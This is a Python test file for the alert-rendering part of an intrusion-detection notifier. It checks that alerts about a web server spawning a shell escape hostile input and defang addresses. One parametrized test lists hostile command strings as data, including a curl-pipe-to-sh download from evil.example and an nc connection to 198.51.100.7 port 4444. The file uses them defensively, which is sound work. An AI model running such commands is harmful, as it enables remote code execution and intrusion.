"""Whatever an attacker writes into a name, a command or a path stays text, wherever it is shown."""

import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given

from notify.escape import defanged, shown
from notify.message import Message
from notify.render.html import html
from notify.render.text import subject, text
from tests.notify.hostile import messages, patient
from tests.notify.samples import alert, notification, say
from tests.sinks.samples import process

NEVER = {"Cc", "Cf", "Co", "Cn", "Cs", "Zl", "Zp"}


def hidden(shown_: str, allowed: str = "\n") -> set[str]:
    """Characters that are obeyed instead of shown."""
    return {one for one in shown_ if unicodedata.category(one) in NEVER and one not in allowed}


class Page(HTMLParser):
    """What a browser makes of a page."""

    TAGS = frozenset(re.findall(r"\w+", "html head meta title body div h1 h2 p b span table tr td ul li a"))
    ATTRIBUTES = frozenset(
        ["style", "href", "role", "cellpadding", "cellspacing", "lang", "charset", "name", "content"]
    )

    def __init__(self, page: str) -> None:
        super().__init__()
        self.words: list[str] = []
        self.links: list[str] = []
        self.open: list[str] = []
        self.feed(page)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Only what we write ourselves."""
        assert tag in self.TAGS
        assert {name for name, _ in attrs} <= self.ATTRIBUTES
        self.links += [value or "" for name, value in attrs if name == "href"]
        if tag != "meta":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """In order."""
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        """What one reads."""
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        """There is none."""
        raise AssertionError(data)


@patient
@given(messages())
def test_html_holds_no_mark_up_of_others(made: Message) -> None:
    """No element, attribute, comment, link or hidden character comes from a detection."""
    page = Page(html(made))
    assert set(page.links) == {"https://attack.mitre.org/techniques/T1505/003"}
    words = " ".join(page.words)
    assert hidden(words) == set()
    assert not re.search(r"https?://|198\.51\.100\.7", words.replace("https://attack.mitre.org", ""))


@patient
@given(messages())
def test_plain_text_obeys_nobody(made: Message) -> None:
    """No terminal escape, no turned text; the subject is one line that no spreadsheet takes for a formula."""
    assert hidden(text(made)) == set()
    assert hidden(subject(made), "") == set()
    assert subject(made)[0] == "["
    assert len(subject(made)) < 250
    links = re.findall(r"(?:https?|ftp|ldap)://\S+", text(made))
    assert set(links) == {"https://attack.mitre.org/techniques/T1505/003"}


@pytest.mark.parametrize(
    ("written", "harmless"),
    [
        ("curl http://evil.example/x.sh | sh", "curl hxxp://evil[.]example/x.sh | sh"),
        ("HTTPS://Evil.Example", "HxxPS://Evil[.]Example"),
        ("nc 198.51.100.7 4444", "nc 198.51.100[.]7 4444"),
        ("198.51.100.7:4444", "198.51.100[.]7:4444"),
        ("ping6 2001:db8::1", "ping6 2001:db8[::]1"),
        ("ssh root@evil.example", "ssh root@evil[.]example"),
        ("/usr/lib/libc.so.6", "/usr/lib/libc.so.6"),
        ("registry.example/shop/web:1.2", "registry[.]example/shop/web:1.2"),
        ("sh -c id", "sh -c id"),
    ],
)
def test_addresses_are_written_so_that_nobody_opens_them(written: str, harmless: str) -> None:
    """What remains is readable, and no program makes a link of it."""
    assert defanged(written) == harmless


def test_half_a_character_is_spelled_out() -> None:
    """What no encoding can write is shown too."""
    assert shown("a\ud800b\x00") == "a\\ud800b\\x00"


def test_a_long_text_is_cut() -> None:
    """A command of megabytes does not make a mail of megabytes."""
    assert len(shown("x" * 10_000_000)) == 601


def test_a_message_says_what_a_reader_needs() -> None:
    """Where, who, what to do, how sure, whose it is, what is missing and how to silence it."""
    said = text(say())
    for words in (
        "CRITICAL: A web server started a shell in container shop on node-1",
        "Owner: team-shop (from pod label team)",
        "== What to do now ==\nLook at the requests of that minute.",
        "- applications that call a shell",
        "`- httpd [30]",
        "sh [40]  /bin/sh -c id   <-- this process",
        "Image:       example/shop:1",
        "User:        www-data (uid 33)",
        "T1505.003 Server Software Component: Web Shell (Persistence)",
        "https://attack.mitre.org/techniques/T1505/003",
        "Not seen: container.labels: no runtime socket",
        "You get this by the first route, receiver soc.",
        "tracetide silence add 'rule=\"A web server started a shell\"' 'host=\"node-1\"'",
    ):
        assert words in said


def test_a_later_message_says_what_is_new() -> None:
    """How many more, how many in all; and a reminder says since when."""
    assert say(1).news == "1 more, 2 in all"
    assert say(1, raised=True).news == "1 more, 2 in all, now critical"
    assert say(kind="reminder", count=0, total=7).news.startswith("still going on, 7 alerts since 2026-")


def test_a_long_descent_shows_its_ends() -> None:
    """The oldest and the latest, and how many are between."""
    family = [process(100 + number, f"/bin/p{number}") for number in range(40)]
    made = say(lead=alert(1, ancestors=family))
    assert made.tree[0].name == "p39"
    assert made.tree[1].skipped == 31
    assert [branch.culprit for branch in made.tree].count(True) == 1
    assert len(made.tree) == 11


def test_all_that_a_flood_holds_is_counted() -> None:
    """By rule, with the most severe first."""
    one = notification(0, count=50)
    assert one.count == 50
    assert "50 x A web server started a shell (critical)" in text(say(count=50, seen=_seen(one.count)))


def _seen(count: int) -> tuple[object, ...]:
    from notify.message import Seen  # noqa: PLC0415  # only here

    return (Seen("A web server started a shell", "critical", count),)
